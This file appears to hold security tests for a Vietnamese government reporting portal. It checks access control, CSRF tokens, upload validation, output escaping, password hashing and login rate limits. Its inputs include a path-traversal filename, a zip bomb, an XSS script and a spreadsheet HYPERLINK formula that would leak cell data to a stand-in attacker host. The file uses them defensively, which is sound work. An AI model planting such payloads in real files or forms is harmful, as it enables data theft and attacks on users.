"""The portal's rules at the HTTP level (Starlette's TestClient, no server): who may see and write
what, CSRF on every form, uploads checked by content, user text escaped, logins rate-limited,
the public seeing published results only."""

from __future__ import annotations

import hashlib
import io
import sqlite3
import zipfile
from pathlib import Path

import pytest
from support.portal import TINY, YEAR, Portal, csrf, log_in, make_portal

from dti_portal.store import store_path


@pytest.fixture
def portal() -> Portal:
    return make_portal()


def inbox_files() -> list[Path]:
    from pipelines.paths import inbox_dir

    folder = inbox_dir() / str(YEAR)
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def template_of(unit_id: str, values: dict | None = None, evidence: dict | None = None) -> bytes:
    from dti_portal.pipeline import load_preset, template_bytes, units_of_year

    preset = load_preset(TINY)
    unit = next(u for u in units_of_year(preset, YEAR) if u["unit_id"] == unit_id)
    return template_bytes(preset, unit, YEAR, values=values, evidence=evidence)


def upload(client, unit_id: str, content: bytes, name: str = "bao-cao.xlsx", token=None):
    token = csrf(client, f"/unit/{unit_id}") if token is None else token
    data = {} if token is False else {"csrf": token}
    return client.post(
        f"/unit/{unit_id}/upload",
        data=data,
        files={"file": (name, content, "application/octet-stream")},
    )


def audit_rows(action: str) -> list[sqlite3.Row]:
    con = sqlite3.connect(store_path())
    con.row_factory = sqlite3.Row
    try:
        return con.execute("SELECT * FROM audit_log WHERE action = ?", (action,)).fetchall()
    finally:
        con.close()


# --- authorisation ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/unit/X-2",
        "/unit/X-2/template.xlsx",
        "/unit/X-2/fill/P1",
        "/unit/X-2/results",
        "/unit/S-A",
        "/officer",
        "/officer/board.xlsx",
        "/appraisal",
        "/appraisal/X-1",
    ],
)
def test_a_unit_cannot_read_another_units_pages(portal: Portal, url: str) -> None:
    client = portal.logged_in("X-1")
    assert client.get("/unit/X-1").status_code == 200
    assert client.get(url).status_code == 403


def test_an_unknown_unit_is_not_found(portal: Portal) -> None:
    assert portal.logged_in("X-1").get("/unit/NOPE").status_code == 404


def test_a_unit_cannot_write_another_units_data(portal: Portal) -> None:
    client = portal.logged_in("X-1")
    token = csrf(client, "/unit/X-1")
    own = template_of("X-2", {"P1.1": 50})
    assert upload(client, "X-2", own, token=token).status_code == 403
    fill = client.post("/unit/X-2/fill/P1", data={"csrf": token, "value-P1.1": "10"})
    assert fill.status_code == 403
    assert client.post("/unit/X-2/submit", data={"csrf": token}).status_code == 403
    assert inbox_files() == []


def test_another_units_workbook_uploaded_under_ones_own_is_not_landed(portal: Portal) -> None:
    client = portal.logged_in("X-1")
    response = upload(client, "X-1", template_of("X-2", {"P1.1": 50}))
    assert response.status_code == 200
    assert "là của đơn vị X-2, không phải X-1" in response.text
    assert inbox_files() == []


def test_an_appraiser_sees_only_its_level(portal: Portal) -> None:
    client = portal.logged_in("thamdinh-department")
    assert client.get("/appraisal/S-A").status_code == 200
    token = csrf(client, "/appraisal/S-A")
    assert upload(client, "S-A", template_of("S-A"), token=token).status_code == 403
    assert client.get("/appraisal/X-1").status_code == 403
    posted = client.post(
        "/appraisal/X-1", data={"csrf": token, "value-P1.1": "1", "reason-P1.1": "x"}
    )
    assert posted.status_code == 403
    assert client.get("/unit/X-1").status_code == 403
    assert client.get("/officer").status_code == 403


def test_without_a_session_every_private_page_sends_to_the_login(portal: Portal) -> None:
    client = portal.client()
    for url in ("/unit/X-1", "/unit/X-1/template.xlsx", "/officer", "/appraisal"):
        response = client.get(url)
        assert response.status_code == 303 and response.headers["location"] == "/login", url


def test_a_forged_session_cookie_is_no_session(portal: Portal) -> None:
    client = portal.logged_in("X-1")
    value = client.cookies.get("dti_session")
    forged = value[:-2] + ("AA" if not value.endswith("AA") else "BB")
    client.cookies.clear()
    client.cookies.set("dti_session", value)
    assert client.get("/unit/X-1").status_code == 200
    client.cookies.clear()
    client.cookies.set("dti_session", forged)
    assert client.get("/unit/X-1").status_code == 303


def test_session_cookie_is_httponly_and_samesite_strict(portal: Portal) -> None:
    client = portal.client()
    response = log_in(client, "X-1", portal.passwords["X-1"])
    cookie = response.headers["set-cookie"].lower()
    assert "dti_session=" in cookie and "httponly" in cookie and "samesite=strict" in cookie


# --- CSRF -------------------------------------------------------------------------------


def test_a_post_without_or_with_a_wrong_csrf_token_is_refused(portal: Portal) -> None:
    client = portal.logged_in("X-1")
    content = template_of("X-1", {"P1.1": 50})
    assert upload(client, "X-1", content, token=False).status_code == 403
    assert upload(client, "X-1", content, token="forged").status_code == 403
    assert client.post("/unit/X-1/fill/P1", data={"value-P1.1": "1"}).status_code == 403
    assert client.post("/unit/X-1/submit", data={"csrf": ""}).status_code == 403
    assert client.post("/logout", data={}).status_code == 403
    assert inbox_files() == []
    officer = portal.logged_in("canbo")
    refused = officer.post("/officer/deadline", data={"due_date": "2025-01-15", "source": "x"})
    assert refused.status_code == 403


def test_the_login_form_needs_its_own_token(portal: Portal) -> None:
    client = portal.client()
    response = client.post(
        "/login", data={"csrf": "x", "login": "X-1", "password": portal.passwords["X-1"]}
    )
    assert response.status_code == 403
    assert "dti_session" not in client.cookies


# --- uploads ----------------------------------------------------------------------------


def test_an_accepted_upload_lands_in_the_inbox_under_a_server_name(portal: Portal) -> None:
    client = portal.logged_in("X-1")
    content = template_of("X-1", {"P1.1": 50, "P2.1": 3})
    climbing = "/".join(["..", "..", "evil.xlsx"])  # a client-chosen name that climbs
    response = upload(client, "X-1", content, name=climbing)
    assert response.status_code == 200
    assert "Tiếp nhận toàn bộ" in response.text
    sha = hashlib.sha256(content).hexdigest()
    assert sha in response.text  # the receipt's id: the ingest's submission id
    [landed] = inbox_files()
    assert landed.parent.relative_to(landed.parents[2]).as_posix() == "portal/commune"
    assert landed.name.startswith(f"DTI_{YEAR}_X-1_") and "evil" not in landed.name
    assert landed.read_bytes() == content
    [line] = audit_rows("submit_upload")
    assert (line["login"], line["target"], line["content_sha256"]) == ("X-1", "X-1", sha)


def test_an_oversize_upload_is_refused(portal: Portal) -> None:
    client = portal.logged_in("X-1")
    response = upload(client, "X-1", b"PK\x03\x04" + b"\0" * (5 * 1024 * 1024))
    assert response.status_code == 413
    assert inbox_files() == []
    assert audit_rows("upload_refused")


def _zip(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"%PDF-1.7\n" + b"x" * 2000, "không phải Excel Workbook"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000, "không phải Excel Workbook"),
        (_zip({"readme.txt": b"hello"}), "thiếu xl/workbook.xml"),
        (
            _zip(
                {
                    "[Content_Types].xml": b"<Types/>",
                    "xl/workbook.xml": b"<workbook/>",
                    "xl/worksheets/sheet1.xml": b"\0" * (60 * 1024 * 1024),
                }
            ),
            "tỷ lệ",
        ),
    ],
    ids=["pdf-named-xlsx", "old-xls", "zip-not-workbook", "zip-bomb"],
)
def test_a_file_that_is_not_a_workbook_is_refused_by_content(
    portal: Portal, content: bytes, message: str
) -> None:
    client = portal.logged_in("X-1")
    response = upload(client, "X-1", content, name="bao-cao.xlsx")
    assert response.status_code == 422
    assert message in response.text
    assert inbox_files() == []


# --- user text ------------------------------------------------------------------------------


SCRIPT = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def test_user_text_is_escaped_in_html_and_neutralised_in_the_workbook(portal: Portal) -> None:
    import openpyxl

    client = portal.logged_in("X-1")
    token = csrf(client, "/unit/X-1/fill/P1")
    saved = client.post(
        "/unit/X-1/fill/P1",
        data={
            "csrf": token,
            "value-P1.1": "85,5",
            "evidence-P1.1": SCRIPT,
            "value-P1.2": "Có",
            "evidence-P1.2": FORMULA,
        },
    )
    assert saved.status_code == 200
    assert SCRIPT not in saved.text
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in saved.text
    response = client.post("/unit/X-1/submit", data={"csrf": token})
    assert response.status_code == 200, response.text
    assert SCRIPT not in response.text and "<script" not in response.text
    [landed] = inbox_files()
    sheet = openpyxl.load_workbook(landed)["Tự đánh giá"]
    evidence = {sheet.cell(r, 2).value: sheet.cell(r, 9) for r in range(9, 13)}
    assert evidence["P1.1"].value == SCRIPT
    assert evidence["P1.2"].value == "'" + FORMULA
    assert evidence["P1.2"].data_type == "s"


# --- logins -------------------------------------------------------------------------------


def test_password_is_stored_as_an_argon2id_hash_only(portal: Portal) -> None:
    con = sqlite3.connect(store_path())
    try:
        hashes = dict(con.execute("SELECT login, password_hash FROM accounts").fetchall())
    finally:
        con.close()
    assert set(hashes) == set(portal.passwords)
    assert all(h.startswith("$argon2id$") for h in hashes.values())
    raw = store_path().read_bytes()
    assert not any(p.encode() in raw for p in portal.passwords.values())


def test_brute_force_on_one_account_is_rate_limited(portal: Portal) -> None:
    client = portal.client()
    for _ in range(5):
        assert log_in(client, "X-1", "wrong-password").status_code == 401
    # the right password no longer opens the account during the window
    response = log_in(client, "X-1", portal.passwords["X-1"])
    assert response.status_code == 429
    assert "dti_session" not in client.cookies
    # another account from the same address is not yet blocked
    assert log_in(client, "X-2", portal.passwords["X-2"]).status_code == 303


def test_brute_force_from_one_address_over_many_accounts_is_rate_limited(portal: Portal) -> None:
    client = portal.client()
    for i in range(20):
        assert log_in(client, f"nobody-{i}", "wrong").status_code == 401
    assert log_in(client, "X-3", portal.passwords["X-3"]).status_code == 429


# --- public ---------------------------------------------------------------------------------


def _warehouse_with_snapshots() -> None:
    """Two snapshots of 2024, communes, points: one published, one not."""
    import datetime as dt

    from pipelines.paths import warehouse_path
    from pipelines.store.warehouse import session

    now = dt.datetime(2025, 4, 1)
    with session(warehouse_path()) as con:
        for sid, published, points in (("pub", now, 71.5), ("draft", None, 12.25)):
            con.execute(
                "INSERT INTO snapshots VALUES (?, 2024, 'commune', 'points', '{}', 'f', 'v', 'h', "
                "'i', 'c', 'k', 1, ?, ?)",
                [sid, now, published],
            )
            con.execute(
                "INSERT INTO snapshot_scores VALUES (?, 'H-1', 'X-1', 'DTI', 'index', ?, 100, "
                "?, NULL, 1, NULL, 0)",
                [sid, points, points / 100],
            )


def test_the_public_sees_published_snapshots_only(portal: Portal) -> None:
    _warehouse_with_snapshots()
    client = portal.client()
    listing = client.get("/public")
    assert "/public/snapshot/pub" in listing.text and "/public/snapshot/draft" not in listing.text
    assert client.get("/public/snapshot/draft").status_code == 404
    page = client.get("/public/snapshot/pub")
    assert page.status_code == 200 and "71,50" in page.text
    found = client.get("/public/lookup", params={"q": "X-1"})
    assert "71,50" in found.text and "12,25" not in found.text


def test_the_portal_never_writes_the_warehouse(portal: Portal) -> None:
    from pipelines.paths import warehouse_path

    _warehouse_with_snapshots()
    before = hashlib.sha256(warehouse_path().read_bytes()).hexdigest()
    client = portal.logged_in("X-1")
    assert upload(client, "X-1", template_of("X-1", {"P2.1": 2})).status_code == 200
    for url in ("/public", "/public/snapshot/pub", "/public/lookup?q=X", "/unit/X-1/results"):
        assert client.get(url).status_code == 200, url
    assert hashlib.sha256(warehouse_path().read_bytes()).hexdigest() == before
    assert len(inbox_files()) == 1


def test_pages_are_vietnamese_and_load_nothing_from_outside(portal: Portal) -> None:
    import re
    import unicodedata

    client = portal.logged_in("X-1")
    for url in ("/", "/public", "/unit/X-1", "/unit/X-1/fill/P1", "/unit/X-1/results"):
        response = client.get(url, follow_redirects=True)
        assert response.status_code == 200, url
        text = response.text
        assert 'lang="vi"' in text and unicodedata.is_normalized("NFC", text)
        assert not re.search(r'(src|href)="(https?:)?//', text), url
        assert "default-src 'none'" in response.headers["content-security-policy"]
